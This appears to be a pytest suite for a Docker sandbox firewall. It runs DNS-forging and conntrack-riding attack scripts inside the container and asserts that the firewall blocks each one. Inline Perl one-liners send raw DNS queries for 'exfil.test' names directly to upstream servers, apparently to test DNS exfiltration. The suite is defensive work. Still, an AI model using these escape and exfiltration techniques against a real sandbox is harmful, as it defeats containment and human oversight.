# SPDX-License-Identifier: MIT
"""Attacks on the firewall from an exec'd terminal of a real Docker sandbox,
on a user-defined network where the init resolves through Docker's embedded
DNS (127.0.0.11, DNATed inside the container's own namespace)."""
import json
import os
import re
import subprocess
import time

import pytest

from dockerenv import IMAGE, docker

HERE = os.path.dirname(os.path.abspath(__file__))
FORGED = "192.0.2.77"


def allowed_v4(dockerenv, name):
    for obj in json.loads(dockerenv.ruleset(name))["nftables"]:
        s = obj.get("set")
        if s and s["name"] == "allowed_v4":
            return [e if isinstance(e, str) else json.dumps(e) for e in s.get("elem", [])]
    raise AssertionError("no allowed_v4 set")


def test_forged_dns_answers_on_the_loopback_do_not_open_the_firewall(dockerenv):
    policy = dockerenv.policy("domains: [far.test]\nports: [80]\n", name="forge-policy.yaml")
    name = dockerenv.start_sandbox(policy)
    logs = dockerenv.wait_log(name, "supervising")
    assert "sandbox ready" in logs, logs
    assert "nameserver 127.0.0.11" in docker("exec", name, "cat", "/etc/resolv.conf").stdout
    assert allowed_v4(dockerenv, name) == [dockerenv.far_ip]

    with open(os.path.join(HERE, "attacks", "forge-dns.pl")) as f:
        docker("exec", "-i", name, "bash", "-c", "cat > /tmp/forge-dns.pl", input=f.read())
    docker("exec", "-d", name, "bash", "-c",
           f"perl /tmp/forge-dns.pl {FORGED} /tmp/forge.ready > /tmp/forge.log 2>&1")
    deadline = time.monotonic() + 30
    while docker("exec", name, "test", "-e", "/tmp/forge.ready", check=False).returncode != 0:
        log = docker("exec", name, "cat", "/tmp/forge.log", check=False).stdout
        assert time.monotonic() < deadline and "bind" not in log, log
        time.sleep(0.2)

    # What a TTL refresh does, at a moment of the attacker's choosing.
    docker("kill", "-s", "HUP", name)
    deadline = time.monotonic() + 30
    while docker("logs", name).stderr.count("sandbox ready") < 2:
        assert time.monotonic() < deadline, docker("logs", name).stderr
        time.sleep(0.2)

    log = docker("exec", name, "cat", "/tmp/forge.log").stdout
    assert allowed_v4(dockerenv, name) == [dockerenv.far_ip], log
    assert "query" not in log, "the init's query reached the sandbox user's socket:\n" + log
    assert "sprayed 0 " in log, "the firewall let the sandbox user send from 127.0.0.11:53:\n" + log


def test_the_sandbox_resolver_answers_only_allowed_names(dockerenv):
    """On a user-defined network (Docker's embedded DNS at 127.0.0.11): a
    name under the policy's wildcard works from an exec'd terminal on the
    first connection; queries for other names, over UDP or TCP, to the
    embedded DNS or straight to the network's DNS server, are answered in
    the sandbox and never reach that server."""
    policy = dockerenv.policy('domains: ["*.wild.test"]\nports: [80]\n', name="wild-policy.yaml")
    name = dockerenv.start_sandbox(policy)
    logs = dockerenv.wait_log(name, "supervising")
    assert "sandbox ready" in logs, logs
    for host in ("a.wild.test", "deep.x.wild.test"):
        r = docker("exec", name, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5",
                   f"http://{host}/", check=False)
        assert r.stdout == "200", (host, r.stdout, r.stderr)
    r = docker("exec", name, "bash", "-c",
               "getent hosts leak-1.exfil.test; echo rc=$?;"
               f"perl -MIO::Socket::INET -e '"
               "my $q = pack(\"nnnnnn\", 0x1234, 0x0100, 1, 0, 0, 0);"
               "$q .= chr(length $_) . $_ for split /\\./, \"leak-2.exfil.test\"; $q .= pack(\"Cnn\", 0, 16, 1);"
               f"my $s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"{dockerenv.dns_ip}:53\") or die;"
               "$s->send($q); my $a; $s->recv($a, 512); printf \"rcode=%d\\n\", ord(substr($a, 3, 1)) & 15'",
               check=False)
    assert "rc=2" in r.stdout, r.stdout + r.stderr          # getent: not found
    assert "rcode=3" in r.stdout, r.stdout + r.stderr       # NXDOMAIN, from the sandbox's resolver
    # Docker's embedded DNS on its own port behind 127.0.0.11 (what its NAT
    # rule for port 53 leads to), asked directly: refused, never forwarded.
    r = docker("exec", name, "bash", "-c",
               "port=$((16#$(awk '$2 ~ /^0B00007F:/ {split($2, a, \":\"); print a[2]; exit}' /proc/net/udp)));"
               "echo port=$port;"
               "perl -MIO::Socket::INET -e '"
               "my $q = pack(\"nnnnnn\", 0x1234, 0x0100, 1, 0, 0, 0);"
               "$q .= chr(length $_) . $_ for split /\\./, \"leak-3.exfil.test\"; $q .= pack(\"Cnn\", 0, 1, 1);"
               "my $s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"127.0.0.11\", PeerPort => $ARGV[0]) or die;"
               "print $s->send($q) ? \"sent\\n\" : \"send-refused: $!\\n\"' $port",
               check=False)
    assert re.search(r"port=[1-9]", r.stdout) and "send-refused" in r.stdout, r.stdout + r.stderr
    dns_log = dockerenv.dns_log()
    assert "wild.test" in dns_log, "the allowed names were asked upstream"
    assert "leak-" not in dns_log, dns_log     # leak-1, -2 and -3: none reached the server
    logs = docker("logs", name).stderr
    assert "refused DNS query leak-1.exfil.test (A): not in the policy" in logs, logs


def test_the_sandbox_resolver_on_the_default_bridge(dockerenv, tmp_path):
    """Docker's default bridge has no embedded DNS: resolv.conf names the
    servers given with --dns (here a dnsmasq of the test's own on the
    bridge's address, answering .test names only). The same holds: a
    wildcard name works at once, nothing else reaches the server."""
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "docker0"], capture_output=True, text=True).stdout
    gateway = out.split()[3].split("/")[0]
    log = tmp_path / "bridge-dns.log"
    dns = subprocess.Popen(["dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--conf-file=/dev/null",
                            "--bind-interfaces", f"--listen-address={gateway}", "--except-interface=lo",
                            f"--address=/wild.test/{dockerenv.far_ip}", "--log-queries", f"--log-facility={log}",
                            "--user=root", f"--pid-file={tmp_path / 'bridge-dns.pid'}"])
    name = None
    try:
        deadline = time.monotonic() + 5
        while f"{gateway}:53" not in subprocess.run(["ss", "-uln"], capture_output=True, text=True).stdout:
            assert time.monotonic() < deadline and dns.poll() is None, "dnsmasq on the bridge did not start"
            time.sleep(0.05)
        policy = dockerenv.policy('domains: ["*.wild.test"]\nports: [80]\n', name="bridge-policy.yaml")
        args = [a for a in dockerenv.sandbox_args(policy) if a not in ("--network", dockerenv.network,
                                                                       "--dns", dockerenv.dns_ip)]
        name = f"asb-e2e-bridge-{dockerenv.tag}"
        docker("run", "-d", "--name", name, "--dns", gateway, *args, IMAGE)
        logs = dockerenv.wait_log(name, "supervising")
        assert "sandbox ready" in logs, logs
        assert f"nameserver {gateway}" in docker("exec", name, "cat", "/etc/resolv.conf").stdout
        r = docker("exec", name, "curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5",
                   "http://b.wild.test/", check=False)
        assert r.stdout == "200", (r.stdout, r.stderr, docker("logs", name).stderr)
        r = docker("exec", name, "bash", "-c", "getent hosts leak-4.exfil.test; echo rc=$?", check=False)
        assert "rc=2" in r.stdout, r.stdout + r.stderr
        text = log.read_text()
        assert "b.wild.test" in text and "leak-4" not in text, text
    finally:
        if name:
            docker("rm", "-f", name, check=False)
        dns.kill()
        dns.wait()


def test_the_sandbox_user_cannot_ride_dockerds_upstream_dns_flow(dockerenv):
    """Docker's embedded DNS forwards the resolver's queries upstream from a
    socket of dockerd's (uid 0) in the sandbox's namespace, on an ephemeral
    port the sandbox user can read in /proc/net/udp. Once that socket closes
    its conntrack entry stays: the user binds the same address and port and
    sends its own query. A packet on an existing entry skips the redirect
    to the sandbox's resolver, and "established" accepted it. Flows an
    exemption opened now go on only from whom it exempted."""
    policy = dockerenv.policy('domains: [far.test, "*.wild.test"]\nports: [80]\n', name="ride-policy.yaml")
    name = dockerenv.start_sandbox(policy)
    logs = dockerenv.wait_log(name, "supervising")
    assert "sandbox ready" in logs, logs
    src = docker("inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", name).stdout.strip()
    with open(os.path.join(HERE, "attacks", "ride-dns-flow.pl")) as f:
        r = docker("exec", "-i", "-u", "dev", name, "perl", "-", src, dockerenv.dns_ip, "wild.test",
                   "ride.blocked.test", input=f.read(), check=False, timeout=120)
    assert r.returncode == 0, r.stderr
    # Without a forwarded query to ride, the attack proves nothing.
    assert r.stdout.startswith("seen ") and r.stdout.split("\n")[0] != "seen ", r.stdout
    time.sleep(0.5)
    asked = [line for line in dockerenv.dns_log().splitlines() if "ride.blocked.test" in line]
    answers = [line for line in r.stdout.splitlines() if line.startswith("answer ")]
    assert not answers and not asked, (
        f"the sandbox user reached the DNS server on dockerd's flow:\n{r.stdout}\n" + "\n".join(asked))
